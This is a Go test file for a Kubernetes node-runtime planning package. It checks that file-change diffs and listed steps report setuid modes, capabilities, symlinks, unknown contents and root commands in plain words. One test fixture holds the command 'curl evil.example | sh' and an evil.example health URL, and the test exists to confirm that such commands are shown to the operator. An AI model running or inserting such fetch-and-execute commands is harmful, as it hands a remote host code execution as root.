package plan_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/kubectl-runtime/kubectl-runtime/pkg/apis/v1alpha1"
	"github.com/kubectl-runtime/kubectl-runtime/pkg/plan"
)

// TestDiffsTellEverything: a change that isn't one of known text is told in words, and never looks like none.
func TestDiffsTellEverything(t *testing.T) {
	const name = "/etc/crictl.yaml"
	file := func(s v1alpha1.FileState) v1alpha1.FileState {
		s.Path = name
		if s.Type == "" {
			s.Type = v1alpha1.Regular
		}
		if s.Mode == 0 && s.Type == v1alpha1.Regular {
			s.Mode = 0o644
		}
		return s
	}
	text := []v1alpha1.Segment{{Text: "b\n"}}
	known := map[string]string{name: "a\n", "sha256:aa": "a\n", "sha256:a2": "a\n", "sha256:bb": "b\n", "/etc/other": "secret\n"}
	for what, c := range map[string]struct {
		before, after v1alpha1.FileState
		unknown       bool // nothing is known of contents
		notes         []string
		lines         []string
	}{
		"a mode":                     {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{SHA256: "aa", Mode: 0o4777}), false, []string{"mode 0644 becomes 4777"}, nil},
		"an owner":                   {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{SHA256: "aa", UID: 1000, GID: 7}), false, []string{"owner 0:0 becomes 1000:7"}, nil},
		"a mode of a new file":       {file(v1alpha1.FileState{Type: v1alpha1.Absent}), file(v1alpha1.FileState{Content: text, Mode: 0o600}), false, []string{"mode 0600"}, []string{"+b"}},
		"a new file as usual":        {file(v1alpha1.FileState{Type: v1alpha1.Absent}), file(v1alpha1.FileState{Content: text}), false, nil, []string{"+b"}},
		"an attribute":               {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{SHA256: "aa", Xattrs: map[string][]byte{"security.capability": {1}}}), false, []string{`attribute security.capability "" becomes "\x01"`}, nil},
		"a digest without a content": {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{SHA256: "cc"}), true, []string{"its content before isn't known here, only its digest: aa", "its content after isn't known here, only its digest: cc"}, nil},
		"another digest, same mask":  {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{SHA256: "a2"}), false, []string{"what is masked in it changes"}, nil},
		"a kept unknown":             {file(v1alpha1.FileState{SHA256: "cc"}), file(v1alpha1.FileState{SHA256: "cc", Mode: 0o600}), true, []string{"mode 0644 becomes 0600", "its content isn't known here, and stays"}, nil},
		"a kept known":               {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{SHA256: "bb"}), false, nil, []string{"-a", "+b"}},
		"a text over an unknown":     {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Content: text}), true, []string{"its content before isn't known here, only its digest: aa"}, []string{"+b"}},
		"pieces of an unknown": {
			file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Content: []v1alpha1.Segment{{From: "/etc/other", End: 4}, {Text: "x\x00\n"}}}), true,
			[]string{"its content before isn't known here, only its digest: aa", "its content after isn't known here", "it gets the bytes 0 to 4 of /etc/other", `it gets the text "x\x00\n"`},
			nil,
		},
		"a link for a file":  {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Type: v1alpha1.Symlink, Target: "/tmp/x"}), false, []string{"the file becomes a symlink"}, []string{"-a", "+-> /tmp/x"}},
		"another link":       {file(v1alpha1.FileState{Type: v1alpha1.Symlink, Target: "/a"}), file(v1alpha1.FileState{Type: v1alpha1.Symlink, Target: "/b"}), false, nil, []string{"--> /a", "+-> /b"}},
		"an odd directory":   {file(v1alpha1.FileState{Type: v1alpha1.Absent}), file(v1alpha1.FileState{Type: v1alpha1.Directory, Mode: 0o777}), false, []string{"mode 0777"}, nil},
		"a removed file":     {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Type: v1alpha1.Absent}), false, nil, []string{"-a"}},
		"a removed unknown":  {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Type: v1alpha1.Absent}), true, []string{"its content before isn't known here, only its digest: aa"}, nil},
		"lines like a head":  {file(v1alpha1.FileState{Type: v1alpha1.Absent}), file(v1alpha1.FileState{Content: []v1alpha1.Segment{{Text: "++ x\n-- y\n"}}}), false, nil, []string{"+++ x", "+-- y"}},
		"a last line's end":  {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Content: []v1alpha1.Segment{{Text: "a"}}}), false, nil, []string{"-a", "+a", `\ No newline at end of file`}},
		"carriage returns":   {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Content: []v1alpha1.Segment{{Text: "a\r\n"}}}), false, nil, []string{"-a", "+a\r"}},
		"bytes and no words": {file(v1alpha1.FileState{SHA256: "aa"}), file(v1alpha1.FileState{Content: []v1alpha1.Segment{{Text: "a\x00\xff\n"}}}), false, nil, []string{"-a", "+a\x00\xff"}},
	} {
		t.Run(what, func(t *testing.T) {
			p := &v1alpha1.Plan{Before: v1alpha1.State{Files: []v1alpha1.FileState{c.before}}, After: v1alpha1.State{Files: []v1alpha1.FileState{c.after}}}
			diffs, err := plan.Diffs(p, func(key string) (string, bool) {
				s, ok := known[key]
				return s, ok && !c.unknown
			})
			if err != nil || len(diffs) != 1 {
				t.Fatalf("%v, %v", diffs, err)
			}
			if diff := cmp.Diff(c.notes, diffs[0].Notes); diff != "" {
				t.Errorf("notes (-want +got):\n%s", diff)
			}
			lines := strings.Split(diffs[0].Unified, "\n")
			for _, want := range c.lines {
				if !slices.Contains(lines, want) {
					t.Errorf("%q isn't in\n%s", want, diffs[0].Unified)
				}
			}
			if len(c.lines) == 0 && diffs[0].Unified != "" {
				t.Errorf("a diff of nothing:\n%s", diffs[0].Unified)
			}
		})
	}
}

// An odd directory is told although a file in it is told, too.
func TestOddDirectoryIsTold(t *testing.T) {
	absent := func(path string) v1alpha1.FileState { return v1alpha1.FileState{Path: path, Type: v1alpha1.Absent} }
	for mode, want := range map[uint32]int{0o755: 1, 0o777: 2} {
		p := &v1alpha1.Plan{
			Before: v1alpha1.State{Files: []v1alpha1.FileState{absent("/etc/crio"), absent("/etc/crio/x")}},
			After: v1alpha1.State{Files: []v1alpha1.FileState{
				{Path: "/etc/crio", Type: v1alpha1.Directory, Mode: mode},
				{Path: "/etc/crio/x", Type: v1alpha1.Regular, Mode: 0o644, Content: []v1alpha1.Segment{{Text: "x\n"}}},
			}},
		}
		diffs, err := plan.Diffs(p, nil)
		if err != nil || len(diffs) != want {
			t.Errorf("mode %o: %+v, %v", mode, diffs, err)
		}
	}
}

// TestStepsTellWhatRuns: every command that a plan has run on the node stands among the steps, its words told apart.
func TestStepsTellWhatRuns(t *testing.T) {
	p := &v1alpha1.Plan{Staging: v1alpha1.Staging{
		Needed: true, Argv: []string{"/usr/bin/crio", "--a b"}, Validate: [][]string{{"/bin/sh", "-c", "curl evil.example | sh"}},
		Handover: [][]string{{"/usr/bin/ctr", "{ref}", ""}},
	}, Kubelet: v1alpha1.KubeletRef{Unit: "kubelet.service", Healthz: "http://evil.example/healthz"}}
	var got []string
	for _, s := range plan.Steps(p) {
		got = append(got, s.Text)
	}
	for _, want := range []string{
		`run on the node, as root: /bin/sh -c "curl evil.example | sh"`, `run on the node, as root: /usr/bin/crio "--a b"`,
		`run on the node, as root: /usr/bin/ctr {ref} ""`, "start kubelet.service, and ask http://evil.example/healthz for its health",
	} {
		if !slices.Contains(got, want) {
			t.Errorf("%q isn't among\n%s", want, strings.Join(got, "\n"))
		}
	}
}

// TestVerifyKnowsContents: only a rollback may name a content by its digest alone.
func TestVerifyKnowsContents(t *testing.T) {
	saved, _, _ := built(t)
	i := slices.IndexFunc(saved.After.Files, func(x v1alpha1.FileState) bool { return x.Type == v1alpha1.Regular })
	saved.After.Files[i].Content, saved.After.Files[i].SHA256 = nil, strings.Repeat("ab", 32)
	saved.Digest = plan.Digest(saved)
	if err := plan.Verify(saved); err == nil || !strings.Contains(err.Error(), "doesn't say what "+saved.After.Files[i].Path+" is to become") {
		t.Errorf("%v", err)
	}
	saved.Restores = "r-00000000"
	saved.Digest = plan.Digest(saved)
	if err := plan.Verify(saved); err != nil {
		t.Error(err)
	}
}
